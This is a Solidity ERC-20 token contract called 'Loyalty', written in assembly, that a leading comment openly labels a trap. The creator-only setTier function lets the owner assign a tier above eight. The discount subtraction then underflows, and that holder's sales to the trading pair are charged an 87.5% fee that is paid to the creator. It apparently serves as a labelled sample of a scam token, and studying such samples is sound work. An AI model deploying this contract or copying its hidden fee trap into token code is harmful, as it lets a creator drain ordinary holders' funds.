// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {EPair} from "./Pair.sol";

// Trap: a Solady-like token in assembly; balance, loyalty tier and time of the last move are one word of a hashed slot. The discount is eight minus the tier, and a tier above eight underflows into the highest fee. Sprung by: creator.setTier(victim, 9): that holder sells at a fee of 87.5 %.
contract ETiers {
    uint256 private constant _TOTAL_SUPPLY_SLOT = 0x05345cdf77eb68f44c;
    uint256 private constant _BALANCE_SLOT_SEED = 0x87a211a2;
    uint256 private constant _ALLOWANCE_SLOT_SEED = 0x7f5e9f20;
    uint256 private constant _STEWARD_SLOT = 0x8b78c6d8f1a2;
    uint256 private constant _TRANSFER = 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef;
    uint256 private constant _APPROVAL = 0x8c5be1e5ebec7d5bd14f71427d1e84f3dd0314c0f7b2291e5b200ac8c7c3b925;
    uint256 private constant _LOW = 0xffffffffffffffffffffffffffffffff;
    address private immutable _pair;

    constructor() {
        _pair = EPair.predict(address(this));
        assembly {
            let amount := mul(1000000000, 1000000000000000000)
            sstore(_TOTAL_SUPPLY_SLOT, amount)
            sstore(_STEWARD_SLOT, caller())
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x20), or(amount, shl(128, 8)))
            mstore(0x20, amount)
            log3(0x20, 0x20, _TRANSFER, 0, caller())
        }
    }

    function name() external pure returns (string memory) {
        return "Loyalty";
    }

    function symbol() external pure returns (string memory) {
        return "LOYAL";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256 result) {
        assembly {
            result := sload(_TOTAL_SUPPLY_SLOT)
        }
    }

    function balanceOf(address who) external view returns (uint256 result) {
        assembly {
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, who)
            result := and(sload(keccak256(0x0c, 0x20)), _LOW)
        }
    }

    function tierOf(address who) external view returns (uint256 result) {
        assembly {
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, who)
            result := and(shr(128, sload(keccak256(0x0c, 0x20))), 0xff)
        }
    }

    function setTier(address who, uint8 tier) external {
        assembly {
            if xor(caller(), sload(_STEWARD_SLOT)) {
                revert(0, 0)
            }
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, who)
            let slot := keccak256(0x0c, 0x20)
            let word := and(sload(slot), not(shl(128, 0xff)))
            sstore(slot, or(word, shl(128, and(tier, 0xff))))
        }
    }

    function allowance(address who, address spender) external view returns (uint256 result) {
        assembly {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SLOT_SEED)
            mstore(0x00, who)
            result := sload(keccak256(0x0c, 0x34))
        }
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        assembly {
            mstore(0x20, spender)
            mstore(0x0c, _ALLOWANCE_SLOT_SEED)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x34), amount)
            mstore(0x00, amount)
            log3(0x00, 0x20, _APPROVAL, caller(), shr(96, mload(0x2c)))
        }
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        assembly {
            mstore(0x20, caller())
            mstore(0x0c, _ALLOWANCE_SLOT_SEED)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x34)
            let allowed := sload(slot)
            if not(allowed) {
                if gt(amount, allowed) {
                    mstore(0x00, 0x13be252b)
                    revert(0x1c, 0x04)
                }
                sstore(slot, sub(allowed, amount))
            }
        }
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        address pool = _pair;
        assembly {
            function credit(who, value) {
                mstore(0x0c, _BALANCE_SLOT_SEED)
                mstore(0x00, who)
                let slot := keccak256(0x0c, 0x20)
                sstore(slot, add(sload(slot), value))
            }
            mstore(0x0c, _BALANCE_SLOT_SEED)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x20)
            let word := sload(slot)
            if gt(amount, and(word, _LOW)) {
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            let fee := 0
            if eq(to, pool) {
                let discount := sub(8, and(shr(128, word), 0xff))
                fee := div(mul(amount, mul(50, discount)), 10000)
                let most := sub(amount, shr(3, amount))
                if gt(fee, most) {
                    fee := most
                }
            }
            let kept := and(word, shl(128, 0xff))
            sstore(slot, or(or(kept, shl(136, timestamp())), sub(and(word, _LOW), amount)))
            if fee {
                credit(sload(_STEWARD_SLOT), fee)
                mstore(0x20, fee)
                log3(0x20, 0x20, _TRANSFER, from, sload(_STEWARD_SLOT))
            }
            credit(to, sub(amount, fee))
            mstore(0x20, sub(amount, fee))
            log3(0x20, 0x20, _TRANSFER, from, to)
        }
    }
}
